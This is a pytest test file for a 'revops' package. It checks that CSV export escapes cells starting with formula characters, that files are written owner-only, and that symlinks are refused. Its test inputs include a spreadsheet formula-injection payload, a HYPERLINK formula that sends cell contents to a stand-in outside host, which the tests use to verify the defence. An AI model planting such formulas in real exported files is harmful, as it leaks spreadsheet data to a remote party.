"""Files revops writes for people: owner-only, never through a symlink, no spreadsheet formulas."""

from __future__ import annotations

import csv
import io
import os
import stat
from pathlib import Path

import pytest

from revops.errors import RevOpsError
from revops.privacy.crypto import write_owner_only
from revops.privacy.export import csv_cell


@pytest.mark.parametrize(
    ("raw", "safe"),
    [
        (
            '=HYPERLINK("http://x.invalid/?"&A1,"click")',
            '\'=HYPERLINK("http://x.invalid/?"&A1,"click")',
        ),
        ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
        ("+1 555 0100", "'+1 555 0100"),
        ("-2+3", "'-2+3"),
        ("\tcmd", "'\tcmd"),
        ("\rcmd", "'\rcmd"),
        ("Ada", "Ada"),
        ("a=b", "a=b"),
        ("", ""),
    ],
)
def test_csv_cells_starting_with_formula_characters_are_text(raw: str, safe: str) -> None:
    assert csv_cell(raw) == safe
    buf = io.StringIO()
    csv.writer(buf).writerow([csv_cell(raw)])
    (back,) = next(csv.reader(io.StringIO(buf.getvalue())))
    assert not back.startswith(("=", "+", "-", "@", "\t", "\r"))


def test_csv_cell_leaves_non_text_alone() -> None:
    assert csv_cell(None) is None
    assert csv_cell(-5) == -5


def test_existing_file_is_forced_to_0600(tmp_path: Path) -> None:
    out = tmp_path / "list.csv"
    out.write_text("old content that is longer than the new one")
    out.chmod(0o644)
    write_owner_only(out, b"new")
    assert stat.S_IMODE(out.stat().st_mode) == 0o600
    assert out.read_bytes() == b"new"


def test_symlink_is_refused_and_its_target_untouched(tmp_path: Path) -> None:
    target = tmp_path / "elsewhere.txt"
    target.write_text("keep me")
    target.chmod(0o644)
    link = tmp_path / "list.csv"
    os.symlink(target, link)
    with pytest.raises(RevOpsError, match="symbolic link"):
        write_owner_only(link, b"secret")
    assert target.read_text() == "keep me"
    assert stat.S_IMODE(target.stat().st_mode) == 0o644
